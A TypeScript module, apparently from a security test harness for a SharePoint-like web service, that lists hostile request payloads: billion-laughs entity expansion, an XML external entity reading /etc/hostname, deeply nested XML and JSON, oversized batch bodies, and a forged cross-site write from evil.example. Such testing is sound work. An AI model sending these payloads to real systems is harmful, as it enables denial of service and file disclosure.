import { type Attack, asking, posting, toLists } from '../attack.ts'
import { batchHeaders, jsonHeaders, soapBody, xmlHeaders } from '../client.ts'
import { big } from '../seed.ts'

/** A message of nobody to the service that signs in, whose size is bounded before anybody is known. */
const toAnybody = (body: string) => asking(() => ({ method: 'POST', path: '/_vti_bin/authentication.asmx', headers: xmlHeaders, body }))
const attributes = (count: number): string => Array.from({ length: count }, (_, n) => ` a${n}=""`).join('')
const doctype = (entities: string, use: string): string =>
  `<?xml version="1.0"?><!DOCTYPE e [${entities}]><e:Envelope xmlns:e="http://schemas.xmlsoap.org/soap/envelope/"><e:Body><GetList xmlns="urn:svc:soap/"><listName>${use}</listName></GetList></e:Body></e:Envelope>`
const laughs = Array.from({ length: 9 }, (_, n) => `<!ENTITY l${n + 1} "${`&l${n};`.repeat(10)}">`).join('')
const deepXml = `${'<a>'.repeat(100_000)}${'</a>'.repeat(100_000)}`
const depth = 1_000_000
const deepJson = `${'{"a":'.repeat(depth / 5)}1${'}'.repeat(depth / 5)}`
const longLine = `--b\r\nContent-Type: application/http\r\n\r\nGET${' '.repeat(60_000)}/_api/web HTTP/1.1${' '.repeat(4_000)}x\r\n\r\n\r\n`

/** Messages that are cheap to write and dear to read. */
export const messageAttacks: readonly Attack[] = [
  { name: 'attributes-before-sign-in', restMs: 1000, strike: toAnybody(soapBody('Mode', '', attributes(6000))) },
  { name: 'attributes-of-4-mb', restMs: 2000, strike: toLists(soapBody('GetListItems', '', attributes(300_000))) },
  { name: 'xml-laughs', restMs: 1000, strike: toLists(doctype(`<!ENTITY l0 "ha">${laughs}`, '&l9;')) },
  { name: 'xml-external-entity', restMs: 1000, strike: toLists(doctype('<!ENTITY x SYSTEM "file:///etc/hostname">', '&x;')) },
  { name: 'xml-depth', restMs: 1000, strike: toLists(soapBody('GetList', deepXml)) },
  {
    name: 'json-depth',
    restMs: 1000,
    strike: asking(() => ({ method: 'POST', path: `${big}/items`, user: 'contributor', headers: jsonHeaders, body: deepJson })),
  },
  {
    name: 'json-array-depth',
    restMs: 1000,
    strike: posting(`${big}/getitems`, `{"query":{"ViewXml":${'['.repeat(depth)}`),
  },
  {
    name: 'json-many-members',
    restMs: 2000,
    strike: posting(`${big}/items`, `{${Array.from({ length: 200_000 }, (_, n) => `"m${n}":${n}`).join(',')}}`, jsonHeaders, 'contributor'),
  },
  {
    name: 'batch-request-lines',
    restMs: 2000,
    strike: posting('/_api/$batch', `${longLine.repeat(60)}--b--\r\n`, batchHeaders),
  },
  {
    name: 'batch-of-hyphens',
    restMs: 2000,
    strike: posting('/_api/$batch', `--b\r\n${'-'.repeat(2_000_000)}\r\n${'\r\n--'.repeat(500_000)}\r\n--b--\r\n`, batchHeaders),
  },
  {
    name: 'long-addresses',
    restMs: 1000,
    strike: asking(() => ({ path: `/_api/web/lists/getbytitle('${'%25'.repeat(4_000)}')`, user: 'visitor' })),
  },
  {
    name: 'cross-site-write',
    restMs: 500,
    strike: asking(({ n }) => ({
      method: 'POST',
      path: `${big}/items`,
      user: 'contributor',
      headers: { ...jsonHeaders, Origin: 'https://evil.example', 'Sec-Fetch-Site': 'cross-site' },
      body: JSON.stringify({ Title: `forged ${n}` }),
    })),
  },
]
